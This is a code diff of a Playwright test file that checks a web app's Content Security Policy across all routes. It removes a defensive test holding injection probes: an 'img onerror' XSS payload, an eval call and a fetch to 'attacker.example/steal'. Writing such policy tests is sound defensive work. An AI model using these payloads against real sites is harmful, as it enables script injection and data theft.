@@ -1,22 +1,58 @@
 import type { Page } from '@playwright/test';
+import { routes } from '../../deploy/routes.ts';
 import { findPersona } from '../../mocks/personas.ts';
 import { expect, test } from './fixtures.ts';
+import { violationsOf } from './violations.ts';
 
-// The journey and the phone codes run under the shipped policy too; here is every other page of the app, and that the policy
-// is there at all.
+// The journey and the phone codes run under the shipped policy too; here is every page of the app. They come from the list of
+// routes that the server is configured by: a new one is opened here as soon as it is there.
 
-/** Listens for what the browser refuses: each entry names the rule, what it met, and where. */
-async function violationsOf(page: Page): Promise<string[]> {
-  const violations: string[] = [];
-  await page.exposeFunction('noteViolation', (violation: string) => violations.push(violation));
-  await page.addInitScript(() => {
-    document.addEventListener('securitypolicyviolation', (event) => {
-      const { effectiveDirective, blockedURI, sourceFile, lineNumber } = event;
-      const note = (window as unknown as { noteViolation: (violation: string) => void }).noteViolation;
-      note(`${effectiveDirective} ${blockedURI} (${sourceFile}:${lineNumber}) on ${location.pathname}`);
-    });
-  });
-  return violations;
+type Route = (typeof routes)[number];
+
+/** The pages of visitors, open to everybody or only before signing in. Every other is opened by a parent who has everything. */
+const visitors: ReadonlySet<Route> = new Set([
+  '/',
+  '/about',
+  '/blog',
+  '/blog/$articleId',
+  '/contact',
+  '/event',
+  '/forgetPassword',
+  '/meals',
+  '/packages',
+  '/packages/$packageId',
+  '/policy',
+  '/signin',
+  '/signup',
+]);
+
+/** Open only while a number waits to be proven. */
+const provers: ReadonlySet<Route> = new Set(['/resetpassword', '/verify']);
+
+/** The addresses of routes that have parameters, or more to show by a query. */
+const addresses: { readonly [Name in Route]?: readonly string[] } = {
+  '/add-review/$orderId': ['/add-review/2018'],
+  '/blog/$articleId': ['/blog/1'],
+  '/packages/$packageId': ['/packages/1'],
+  '/profile/my-account/account-setting': [
+    '/profile/my-account/account-setting',
+    '/profile/my-account/account-setting?change=password',
+  ],
+  '/profile/my-account/applicants/edit-applicants/$applicantId': ['/profile/my-account/applicants/edit-applicants/13'],
+  '/profile/my-orders/current-orders': [
+    '/profile/my-orders/current-orders',
+    '/profile/my-orders/current-orders?order=2051',
+  ],
+  '/profile/my-orders/history': ['/profile/my-orders/history', '/profile/my-orders/history?order=2009'],
+  '/profile/my-orders/report/$orderId': ['/profile/my-orders/report/2018'],
+  '/sub-successful': ['/sub-successful?order=2051'],
+};
+
+/** Where the routes are that pass; fails for one with a parameter of which no example is named above. */
+function addressesOf(passes: (route: Route) => boolean): string[] {
+  const found = routes.filter(passes).flatMap((route) => addresses[route] ?? [route]);
+  expect(found.filter((path) => path.includes('$'))).toEqual([]);
+  return found;
 }
 
 /** Opens one half of the pages in each language: all of them are seen, none twice. */
@@ -40,22 +76,7 @@ test('R01 R32 Every page that a visitor reaches keeps to the policy that it is s
 }) => {
   allowComplaint(/Failed to load resource: the server responded with a status of 404 .*\/nowhere\)/);
   const violations = await violationsOf(page);
-  await visit(page, language, [
-    '/',
-    '/about',
-    '/blog',
-    '/blog/1',
-    '/contact',
-    '/event',
-    '/meals',
-    '/packages',
-    '/packages/1',
-    '/policy',
-    '/signin',
-    '/signup',
-    '/forgetPassword',
-    '/nowhere',
-  ]);
+  await visit(page, language, [...addressesOf((route) => visitors.has(route)), '/nowhere']);
   // A dialog holds the page still, which libraries like to do with a style element.
   await page.goto('/meals?meal=1');
   await expect(page.getByRole('dialog')).toBeVisible();
@@ -64,6 +85,16 @@ test('R01 R32 Every page that a visitor reaches keeps to the policy that it is s
   await page.goto('/contact');
   await page.getByRole('button', { name: message('contact.form.send') }).click();
   await expect(page.locator('[aria-invalid="true"]').first()).toBeVisible();
+  await page.evaluate(() => {
+    localStorage.setItem('UNCONFIRMED_MOBILE_NUMBER', '+966553018264');
+    localStorage.setItem('IS_VERIFIED', 'false');
+    localStorage.setItem('TOKEN_FIRE_BASE', 'a proof');
+  });
+  for (const path of addressesOf((route) => provers.has(route))) {
+    await page.goto(path);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await expect(page).toHaveURL(new RegExp(path));
+  }
   expect(violations).toEqual([]);
 });
 
@@ -83,68 +114,16 @@ test('R33 H06 Every page of a signed-in parent keeps to the policy, the making o
     [origins.app, account?.token ?? '', String(account?.userId)] as const,
   );
   const violations = await violationsOf(page);
-  await visit(page, language, [
-    '/notification',
-    '/cart/choose-applicants',
-    '/cart/add-applicant',
-    '/profile',
-    '/profile/my-account/account-setting',
-    '/profile/my-account/account-setting/edit',
-    '/profile/my-account/applicants',
-    '/profile/my-account/applicants/add-applicants',
-    '/profile/my-orders/current-orders',
-    '/profile/my-orders/history',
-    '/profile/my-orders/order',
-    '/profile/my-orders/payment',
-  ]);
+  await visit(
+    page,
+    language,
+    addressesOf((route) => !visitors.has(route) && !provers.has(route)),
+  );
   await page.goto('/profile/my-orders/report/2018');
   const file = page.waitForEvent('download');
   await page.getByRole('button', { name: message('report.download') }).click();
   expect((await file).suggestedFilename()).toMatch(/\.pdf$/);
   expect(violations).toEqual([]);
-});
-
-test('R01 What was slipped into a page neither runs nor calls out', async ({ page, allowComplaint }) => {
-  allowComplaint(/Content Security Policy|TrustedHTML|TrustedScript|Refused to/);
-  const violations = await violationsOf(page);
-  await page.goto('/about');
-  const outcome = await page.evaluate(async () => {
-    const attempts: Record<string, () => unknown> = {
-      script: () => {
-        const script = document.createElement('script');
-        script.textContent = 'window.slippedIn = true';
-        document.head.append(script);
-      },
-      markup: () => {
-        document.body.innerHTML = '<img src=x onerror="window.slippedIn = true">';
-      },
-      // From a timer: what a debugger asks for may evaluate.
-      evaluation: async () =>
-        new Promise((resolve, reject) => {
-          setTimeout(() => {
-            try {
-              // oxlint-disable-next-line eslint/no-eval -- the point of the test is that it does not run
-              resolve(window.eval('window.slippedIn = true'));
-            } catch (error) {
-              reject(error);
-            }
-          });
-        }),
-      call: async () => fetch('https://attacker.example/steal'),
-    };
-    const refused: string[] = [];
-    for (const [name, attempt] of Object.entries(attempts)) {
-      try {
-        await attempt();
-      } catch {
-        refused.push(name);
-      }
-    }
-    return { refused, slippedIn: 'slippedIn' in window };
-  });
-  expect(outcome).toEqual({ refused: ['script', 'markup', 'evaluation', 'call'], slippedIn: false });
-  const rules = () => [...new Set(violations.map((each) => each.replace(/ .*$/, '')))].toSorted();
-  await expect.poll(rules).toEqual(['connect-src', 'require-trusted-types-for']);
 });
 
 test('R09 A configuration that is not right shows one page in both languages, which says where the fault is', async ({
